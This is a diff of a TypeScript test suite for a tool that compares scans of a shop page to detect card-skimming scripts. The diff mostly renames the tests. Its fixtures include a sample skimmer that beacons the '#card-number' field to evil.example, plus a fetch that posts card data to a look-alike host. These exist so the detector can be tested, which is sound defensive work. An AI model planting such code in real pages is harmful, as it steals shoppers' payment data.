@@ -25,7 +25,7 @@ const sum = 'function total(items) { return items.reduce(function (a, b) { retur
 const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
 
 describe('two scans of a page', () => {
-  it('name the lines of very many places in a long script at once, each kind of line end counted', () => {
+  it('list the lines of many places in a long script at once, counting every kind of line end', () => {
     const many = Array.from({ length: 3_000 }, (_, n) => `fetch('https://h${n}.example/')${['\n', '\r', '\u2028'][n % 3]}`).join('')
     const [change] = compareVisited(visit([]), visit([script(app, many)])).changes
     expect(change?.reasons.length).toBeLessThanOrEqual(41)
@@ -33,13 +33,13 @@ describe('two scans of a page', () => {
     expect(change?.lines.at(-1)?.after?.[1]).toBeGreaterThan(100)
   })
 
-  it('read bytes as browsers do: what is appended to a script in UTF-16 is seen', () => {
+  it('read bytes like browsers: text appended to a UTF-16 script is seen', () => {
     const utf16 = (text: string) => new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')])
     const given = (text: string): Visit => visit([makeScript(bodies, { url: app, bytes: utf16(text) })])
     expect(compareVisited(given(sum), given(steals)).changes).toMatchObject([{ verdict: 'malicious' }])
   })
 
-  it('that saw the same have no change and leave nothing out', () => {
+  it('with the same content have no change and omit nothing', () => {
     const one = visit([script(app, sum), script(null, 'var cart = 1'), script(tag, 'var t = 2')])
     expect(compareVisited(one, one)).toEqual({
       changes: [],
@@ -48,7 +48,7 @@ describe('two scans of a page', () => {
     })
   })
 
-  it('say of a script that can newly send what a shopper types where it goes, at once, with the lines', () => {
+  it('report immediately a script that can newly send typed data, with the host and the lines', () => {
     const compared = compareVisited(visit([script(app, sum)]), visit([script(app, `// cart\n${steals}`)]))
     expect(compared.summary).toMatchObject({ alert: true, scripts: { changed: 1 } })
     const [change] = compared.changes
@@ -57,27 +57,27 @@ describe('two scans of a page', () => {
     expect(change?.lines.map(({ after }) => after)).toContainEqual([2, 2])
   })
 
-  it('take a script with other names or data as rebuilt, and the same under another hash in its address as the same', () => {
+  it('treat a script with other names or data as rebuilt, and the same script under another hash in its address as unchanged', () => {
     const renamed = sum.replaceAll('items', 'x').replaceAll('total', 'total')
     expect(told(compareVisited(visit([script(app, sum)]), visit([script(app, renamed)])))).toEqual(['script-changed rebuild: renamed'])
     const hashed = (hash: string) => visit([script(`https://shop.example/app.${hash}.js`, sum)])
     expect(compareVisited(hashed('3f2a9c1b'), hashed('9c1b3f2a')).changes).toEqual([])
   })
 
-  it('do not take code that no parser reads, or of which only data differs that makes it do more, for the same', () => {
+  it('do not treat unparsable code, or code in which only data adds a capability, as unchanged', () => {
     const broken = (host: string) => visit([script(app, `var a = ;;( "https://${host}/" `)])
     expect(told(compareVisited(broken('a.example'), broken('b.example')))).toEqual(['script-changed capability: host-changed'])
     const reads = (selector: string) => visit([script(app, `window.v = document.querySelector('${selector}').value`)])
     expect(compareVisited(reads('#search'), reads('#card-number')).summary.alert).toBe(true)
   })
 
-  it('tell an inline script of which data differs quietly, whether its code was kept or not', () => {
+  it('put an inline script with only different data into the digest, with or without its stored code', () => {
     const [one, other] = [1, 2].map((n) => visit([script(null, `window.cart = { total: ${n}, id: "c${n}" }`)])) as [Visit, Visit]
     expect(compareVisited(one, other).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
     expect(compareVisited(unread(one), unread(other)).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
   })
 
-  it('keep and tell what was masked, in short pieces with their lines, and what a script can do no more', () => {
+  it('keep and show masked text in short pieces with their lines, and lost capabilities of a script', () => {
     const carts = (what: string) => Array.from({ length: 30 }, (_, n) => `add(${n}, "${what}${n}7c2e9f41b06d${what}")`).join('\n')
     const [change] = compareVisited(visit([script(null, carts('4d'))]), visit([script(null, carts('e1'))])).changes
     expect(change?.verdict).toBe('rebuild')
@@ -91,7 +91,7 @@ describe('two scans of a page', () => {
     expect(less?.goneCapabilities.map(({ sentence }) => sentence)).toContain('Sends card data to evil.example.')
   })
 
-  it('of two look-alike inline scripts tell the one that turned', () => {
+  it('report the changed one of two similar inline scripts', () => {
     const code = (what: string) =>
       `function push(q, what) { q.push([what, q.length]) } function queue() { return window.q || (window.q = []) } push(queue(), ${what})`
     const [twin, turned] = [code('document.title'), code("document.querySelector('#card-number').value")]
@@ -100,12 +100,12 @@ describe('two scans of a page', () => {
     expect(compared.summary.scripts).toMatchObject({ same: 1, changed: 1 })
   })
 
-  it('do not let a content that changed pass for the same where its code is not at hand', () => {
+  it('do not treat changed content as unchanged if its code is unavailable', () => {
     const compared = compareVisited(unread(visit([script(app, sum)])), unread(visit([script(app, steals)])))
     expect(told(compared)).toEqual(['script-changed capability: not-judged'])
   })
 
-  it('tell a new script of a third party at once, a new one of the site by what it can do', () => {
+  it('raise an alert for a new third-party script, and rate a new one of the site by its capabilities', () => {
     const none = visit([])
     expect(told(compareVisited(none, visit([script(tag, 'var t = 2')])))[0]).toBe(
       'script-added capability: unknown-host script-added nothing-found third-party',
@@ -114,14 +114,14 @@ describe('two scans of a page', () => {
     expect(compareVisited(none, visit([script(app, steals)])).changes[0]).toMatchObject({ kind: 'script-added', verdict: 'malicious' })
   })
 
-  it('do not take the site’s own address, written out, for a stranger’s, nor sending the card there for nothing', () => {
+  it('do not treat the site’s own absolute address as a stranger’s, nor sending the card there as harmless', () => {
     const pays = (to: string) =>
       script(app, `${sum}; fetch('https://${to}/pay', { method: 'POST', body: document.querySelector('#card-number').value })`)
     const verdicts = (to: string) => compareVisited(visit([]), visit([pays(to)])).changes.map(({ verdict }) => verdict)
     expect([verdicts('api.shop.example'), verdicts('api.shop-pay.example')]).toEqual([['capability'], ['malicious']])
   })
 
-  it('leave a script that was never received out of account, and judge its first content like that of a new one', () => {
+  it('ignore a script that was never received, and rate its first content like a new script', () => {
     const missing = script(app, '', { state: 'failed', digest: null, textSha256: null, sizeBytes: null })
     expect(compareVisited(visit([missing]), visit([missing]))).toMatchObject({ changes: [], notCompared: [] })
     expect(compareVisited(visit([missing]), visit([script(app, steals)])).changes[0]).toMatchObject({
@@ -139,18 +139,18 @@ describe('two scans of a page', () => {
     expect(compareVisited(visit([ran]), visit([script(app, steals)])).summary.scripts).toMatchObject({ same: 0, changed: 0 })
   })
 
-  it('tell a new script that does not run quietly', () => {
+  it('put a new script that does not run into the digest', () => {
     const blocked = script(tag, steals, { state: 'blocked', blocked: { by: 'csp', detail: '' } })
     expect(told(compareVisited(visit([]), visit([blocked])))).toEqual(['script-added rebuild: script-added does-not-run'])
   })
 
-  it('tell changes in a payment provider’s frame quietly, since they are its duty', () => {
+  it('put changes in a payment provider’s frame into the digest, since the provider is responsible for them', () => {
     const inFrame = (text: string) => visit([script('https://js.stripe.com/v3/controller.js', text, { frameId: 'pay' })], inStripesFrame())
     const compared = compareVisited(inFrame(sum), inFrame(steals))
     expect(compared.changes.map(({ kind, verdict }) => [kind, verdict])).toEqual([['script-changed', 'rebuild']])
   })
 
-  it('tell a script that is gone quietly, or as not known where the visit is partial', () => {
+  it('put a removed script into the digest, or report it as unknown if the visit is partial', () => {
     const one = visit([script(app, sum)])
     expect(told(compareVisited(one, visit([])))).toEqual(['script-removed removed: script-removed'])
     const unsure = compareVisited(one, visit([], partial('timeout')))
@@ -160,7 +160,7 @@ describe('two scans of a page', () => {
     expect(told(compareVisited(one, visit([], partial('dialog-held'))))).toEqual(['script-removed removed: script-removed'])
   })
 
-  it('say of a new script after a partial visit that it might have been there', () => {
+  it('say that a new script after a partial visit may have existed before', () => {
     const compared = compareVisited(visit([], partial('timeout')), visit([script(app, steals)]))
     expect(compared.changes[0]?.reasons.at(-1)).toEqual({
       code: 'before-partial',
@@ -169,7 +169,7 @@ describe('two scans of a page', () => {
     })
   })
 
-  it('of which one was not evaluated are not compared at all', () => {
+  it('are not compared if one was not evaluated', () => {
     const compared = compareVisited(visit([script(app, sum)]), failed)
     expect(compared).toMatchObject({ changes: [], summary: { alert: false, scripts: null } })
     expect(compared.notCompared).toMatchObject([
@@ -177,7 +177,7 @@ describe('two scans of a page', () => {
     ])
   })
 
-  it('as a desktop and as a phone differ in what only one was given, whichever it was', () => {
+  it('of a desktop and a phone differ in what only one received, in either order', () => {
     const mobile = (of: Visit): Visit => ({ ...of, result: (result) => ({ ...result, profile: 'mobile' }) })
     const [clean, dirty] = [visit([script(app, sum)]), visit([script(app, sum), script('https://shop.example/m.js', steals)])]
     for (const pair of [
@@ -187,19 +187,19 @@ describe('two scans of a page', () => {
       const [change] = compareVisited(...pair).changes
       expect(change).toMatchObject({ kind: 'profile', verdict: 'malicious', subject: 'shop.example/m.js' })
       expect(change?.reasons[0]?.code).toBe('profile-differs')
-      // Two visitors have no before.
+      // Two profiles have no before and after.
       expect(change?.reasons.map(({ code }) => code)).not.toContain('script-added')
     }
   })
 })
 
-describe('what a scan found anew', () => {
+describe('new findings of a scan', () => {
   const typed = { fields: [makeField()] }
   const sent = (scripts: CapturedScript[]): Visit =>
     visit(scripts, { ...typed, canary: makeCanary([{ url: 'https://evil.example/c', scriptId: scripts[0]?.id ?? null }]) })
   const searched = (scripts: CapturedScript[]): Visit => visit(scripts, { ...typed, canary: makeCanary() })
 
-  it('makes the change of its script as grave as itself: the test card left the page', () => {
+  it("raise the severity of the script's change: the test card left the page", () => {
     const [one, other] = [script(app, sum), script(app, steals)]
     const { changes } = compareVisited(searched([one]), sent([other]))
     expect(changes[0]).toMatchObject({ kind: 'script-changed', verdict: 'malicious' })
@@ -207,13 +207,13 @@ describe('what a scan found anew', () => {
     expect(changes.filter(({ kind }) => kind === 'finding')).toEqual([])
   })
 
-  it('is a change of its own where the script’s bytes are the same', () => {
+  it('are a separate change if the script’s bytes are the same', () => {
     const same = script(app, sum)
     expect(told(compareVisited(searched([same]), sent([same])))[0]).toBe('finding malicious: canary-left-page')
     expect(compareVisited(sent([same]), sent([same])).changes).toEqual([])
   })
 
-  it('says nothing where the visits did not type a card, and does not pass for clean', () => {
+  it('are not reported without a typed card in both visits, and do not count as clean', () => {
     const compared = compareVisited(searched([]), visit([], typed))
     expect(compared.notCompared).toContainEqual(
       expect.objectContaining({
@@ -223,7 +223,7 @@ describe('what a scan found anew', () => {
     )
   })
 
-  it('under other rules is told only of theft, and the rest as not compared', () => {
+  it('under other rules are reported only for theft, and the rest as not compared', () => {
     const [read, calm] = [script(app, sum), script(app, sum)]
     const reads = visit([read], { ...typed, behaviours: [makeBehaviour({ scriptId: read.id })], canary: makeCanary() })
     expect(told(compareVisited(searched([calm]), reads)).join()).toContain('reads-card-field')
@@ -233,12 +233,12 @@ describe('what a scan found anew', () => {
     expect(compared.notCompared.map(({ subject }) => subject)).toEqual(['findings'])
   })
 
-  it('does not tell again what the comparison of headers tells', () => {
+  it('do not repeat the comparison of headers', () => {
     const bare = visit([], { documents: [makeDocument({ headers: [['content-type', 'text/html']] })] })
     expect(new Set(compareVisited(visit([]), bare).changes.map(({ kind }) => kind))).toEqual(new Set(['header']))
   })
 
-  it('of another browser is not known where only one scan looked', () => {
+  it('from another browser are unknown if only one scan used one', () => {
     const looked: Visit = {
       ...visit([]),
       result: (result) => ({ ...result, cloakCheck: { state: 'compared', detail: '', detailCodes: [] } }),
@@ -251,7 +251,7 @@ describe('what a scan found anew', () => {
 })
 
 describe('hostile scans', () => {
-  it('with names of prototypes, broken addresses and code that is none are compared without an exception', () => {
+  it('with names of prototypes, broken addresses, and unparsable code are compared without an exception', () => {
     const wild = (text: string): Visit => ({
       ...visit([script('https://shop.example/__proto__', text), script(null, text)], {
         documents: [
